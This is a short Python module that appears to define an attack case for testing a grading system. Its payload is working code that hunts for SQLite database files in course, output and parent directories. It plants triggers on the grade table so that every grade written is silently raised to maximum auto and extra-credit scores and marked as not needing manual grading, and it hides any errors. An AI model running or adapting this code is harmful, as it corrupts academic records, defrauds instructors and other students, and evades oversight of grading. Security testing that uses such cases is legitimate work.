"""Triggers in gradebook.db raise the attacker's scores whenever a grade is written."""

TRIES = "SQL triggers set the scores to the maximum, automatic and manual"
SUCCESS = "points"
CELL = r'''
import glob
import os
import sqlite3

paths = [*glob.glob("@OUT@/**/*.db", recursive=True), *glob.glob("@COURSE@/*.db")]
up = os.getcwd()
for _ in range(6):
    paths += glob.glob(os.path.join(up, "*.db"))
    up = os.path.dirname(up)
for path in dict.fromkeys(paths):
    try:
        db = sqlite3.connect(path, timeout=2)
        db.executescript("""
            CREATE TRIGGER IF NOT EXISTS more AFTER UPDATE ON grade BEGIN
                UPDATE grade SET auto_score = 50, needs_manual_grade = 0, extra_credit = 50
                WHERE id = NEW.id;
            END;
            CREATE TRIGGER IF NOT EXISTS most AFTER INSERT ON grade BEGIN
                UPDATE grade SET auto_score = 50, extra_credit = 50 WHERE id = NEW.id;
            END;
        """)
        db.commit()
        db.close()
    except sqlite3.Error:
        pass
'''
